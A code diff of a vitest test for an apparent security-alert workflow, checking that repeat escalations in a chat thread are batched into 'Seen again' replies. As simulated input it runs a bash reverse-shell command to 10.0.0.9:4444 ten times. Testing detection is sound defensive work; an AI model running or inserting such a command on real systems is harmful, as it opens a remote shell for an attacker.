@@ -1,4 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { REPEAT_REPLY_INTERVAL_MS } from '../../src/workflow/workflow.js';
 import { ALICE, BOB, Harness, messageText, waitFor } from './harness.js';
 
 /** One conversation per person and activity, end to end over HTTP against the simulators. */
@@ -154,9 +155,17 @@ describe('conversations, not alerts', () => {
     const escalations = posts.filter((m) => m.metadata?.event_type === 'vouch_escalation');
     expect(escalations).toHaveLength(1);
     expect(posts.filter((m) => m.threadTs === null)).toEqual(escalations);
-    const replies = posts.filter((m) => m.threadTs === escalations[0]!.ts && /Seen again/.test(messageText(m)));
-    expect(replies.length).toBeGreaterThanOrEqual(1);
+    const replies = () => h.security().filter((m) => m.threadTs === escalations[0]!.ts && /Seen again/.test(messageText(m)));
+    // The first repeat is noted at once; the rest of the trickle waits to be noted together.
+    expect(replies()).toHaveLength(1);
     expect((await h.alerts()).filter((a) => a.status === 'escalated')).toHaveLength(6);
+    await h.advance(REPEAT_REPLY_INTERVAL_MS);
+    expect(replies()).toHaveLength(2);
+    expect(messageText(replies()[1]!)).toContain('Seen again* (4 more)');
+    // A burst of a reply's worth is noted without waiting.
+    for (let i = 0; i < 10; i += 1) h.runCommand(ALICE, ['bash', '-i', '>&', '/dev/tcp/10.0.0.9/4444', '0>&1'], { session: 8 });
+    await h.advance(1000);
+    expect(replies()).toHaveLength(3);
   });
 
   it('pace: one open question per person; what comes meanwhile waits and is asked when the first ends', async () => {
